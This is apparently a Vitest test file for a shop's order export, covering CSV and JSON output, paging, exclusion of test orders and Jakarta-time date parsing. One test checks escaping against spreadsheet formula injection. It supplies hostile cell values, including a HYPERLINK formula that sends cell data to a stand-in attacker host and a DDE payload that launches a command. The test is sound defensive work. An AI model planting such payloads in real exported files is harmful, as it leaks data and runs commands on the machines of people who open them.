import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import {
  EXPORT_COLUMNS,
  type ExportedOrder,
  exportedOrders,
  exportFile,
  wibDay,
  wibMonth,
} from "../../../src/commerce/orders/export.ts";
import { confirmQuote } from "../../../src/commerce/orders/place.ts";
import { resolveOrder } from "../../../src/commerce/orders/resolve.ts";
import type { Order } from "../../../src/commerce/orders/types.ts";
import { bootCommerce, type CommerceHarness } from "../../helpers/commerce.ts";
import { testDriver } from "../../helpers/db.ts";

// a period's orders as CSV and JSON: every real order of the period, once, parsed back to
// what kios holds; read a page at a time.

const text = async (chunks: AsyncIterable<string>) => {
  let out = "";
  for await (const c of chunks) out += c;
  return out;
};

describe(`order export (${testDriver})`, () => {
  let h: CommerceHarness;
  const made: Order[] = [];
  let period: { from: Date; to: Date };
  beforeAll(async () => {
    h = await bootCommerce();
    const from = new Date(h.clock.now() - 60_000);
    // success, failure, and a test order (not exported)
    for (const destination of ["081234561901", "081234562902", "081234563901"]) {
      const user = await h.newUser(100_000);
      const quote = await h.quote(user, destination);
      const r = await confirmQuote(h.deps, { quoteId: quote.id, userId: user });
      if (!r.ok) throw new Error(r.reason);
      made.push((await resolveOrder(h.deps, r.order.id)) ?? r.order);
    }
    period = { from, to: new Date(h.clock.now() + 60_000) };
  });
  afterAll(() => h?.stop());

  it("writes every order of the period as CSV that parses back to them", async () => {
    const csv = await text(exportFile(exportedOrders(h.deps.db, period), "csv"));
    const rows = parse(csv, { columns: true }) as Record<string, string>[];
    expect(Object.keys(rows[0]!)).toEqual(EXPORT_COLUMNS);
    expect(rows.map((r) => r.ref_id)).toEqual(made.map((o) => o.refId));
    const success = made.find((o) => o.status === "success")!;
    const row = rows.find((r) => r.ref_id === success.refId)!;
    expect(row).toMatchObject({
      status: "success",
      price: String(success.price),
      product_code: success.productCode,
      destination: success.destination,
      sn: success.sn,
      margin: String(success.price - (success.supplierPrice ?? success.cost)),
      created_at: success.createdAt.toISOString(),
    });
    const failed = rows.find((r) => r.status === "failed")!;
    expect(failed.margin).toBe("");
    expect(failed.failure_reason).not.toBe("");
    // each order's attempts, in one cell as JSON: where it went, answered what, when
    expect(JSON.parse(row.attempts!)).toEqual([
      {
        seq: 1,
        supplier: "main",
        supplier_code: success.productCode,
        ref_id: success.refId,
        state: "success",
        answer_code: "ORDER_SUCCESS",
        reason: null,
        created_at: success.createdAt.toISOString(),
        answered_at: expect.any(String),
        final_at: expect.any(String),
      },
    ]);
    expect(JSON.parse(failed.attempts!)).toMatchObject([
      { seq: 1, supplier: "main", state: "failed", answer_code: "ORDER_FAILED" },
    ]);
  });

  it("writes JSON that parses back, and nothing outside the period", async () => {
    const json = JSON.parse(await text(exportFile(exportedOrders(h.deps.db, period), "json")));
    expect((json as ExportedOrder[]).map((r) => r.ref_id)).toEqual(made.map((o) => o.refId));
    // the attempts as an array of their own
    expect((json as ExportedOrder[]).map((r) => r.attempts.map((a) => a.ref_id))).toEqual(
      made.map((o) => [o.refId]),
    );
    const before = { from: new Date(period.from.getTime() - 86_400_000), to: period.from };
    expect(JSON.parse(await text(exportFile(exportedOrders(h.deps.db, before), "json")))).toEqual(
      [],
    );
    const header = await text(exportFile(exportedOrders(h.deps.db, before), "csv"));
    expect(header.trim()).toBe(EXPORT_COLUMNS.join(","));
  });

  it("reads a page at a time and still yields each order once", async () => {
    const seen: string[] = [];
    for await (const row of exportedOrders(h.deps.db, period, 2)) seen.push(row.ref_id);
    expect(seen).toEqual(made.map((o) => o.refId));
  });

  it("leaves test orders out", async () => {
    const user = await h.newUser(100_000);
    const quote = await h.quote(user, "081234564901");
    await h.database.handle.executeSql("update quotes set testing = true where id = $1", [
      quote.id,
    ]);
    const testDeps = { ...h.deps, testing: true, adminIds: [user] };
    const r = await confirmQuote(testDeps, { quoteId: quote.id, userId: user });
    expect(r.ok && r.order.testing).toBe(true);
    const to = new Date(h.clock.now() + 60_000);
    const rows: string[] = [];
    for await (const row of exportedOrders(h.deps.db, { from: period.from, to }))
      rows.push(row.ref_id);
    expect(rows).toEqual(made.map((o) => o.refId));
  });

  it("writes what a supplier typed as text, never as a spreadsheet formula", async () => {
    // product names, serial numbers and failure reasons come from the supplier: a cell that
    // starts with = + - @ (or a tab) would open as a formula
    const base = (await exportedOrders(h.deps.db, period).next()).value as ExportedOrder;
    const hostile: ExportedOrder = {
      ...base,
      product_name: '=HYPERLINK("http://evil.example/?"&A1,"Klik")',
      sn: "+1+cmd|' /C calc'!A0",
      failure_reason: "@SUM(1+1)",
      destination: "-2+3",
      margin: -100,
    };
    async function* one() {
      yield hostile;
    }
    const [row] = parse(await text(exportFile(one(), "csv")), { columns: true }) as Record<
      string,
      string
    >[];
    expect(row!.product_name).toBe(`'${hostile.product_name}`);
    expect(row!.sn).toBe(`'${hostile.sn}`);
    expect(row!.failure_reason).toBe(`'${hostile.failure_reason}`);
    expect(row!.destination).toBe(`'${hostile.destination}`);
    // numbers stay numbers: a negative margin is not a formula
    expect(row!.margin).toBe("-100");
    expect(row!.ref_id).toBe(base.ref_id);
  });

  it("reads months and days in WIB", () => {
    expect(wibMonth("2026-11")).toEqual({
      from: new Date("2026-10-31T17:00:00Z"),
      to: new Date("2026-11-30T17:00:00Z"),
    });
    expect(wibMonth("2026-12")?.to).toEqual(new Date("2026-12-31T17:00:00Z"));
    for (const bad of ["2026-13", "26-11", "2026-1", "november", ""])
      expect(wibMonth(bad)).toBeUndefined();
    expect(wibDay("2026-11-05")).toEqual(new Date("2026-11-04T17:00:00Z"));
    expect(wibDay("2026-02-31")).toBeUndefined();
    expect(wibDay("2026-11-5")).toBeUndefined();
  });
});
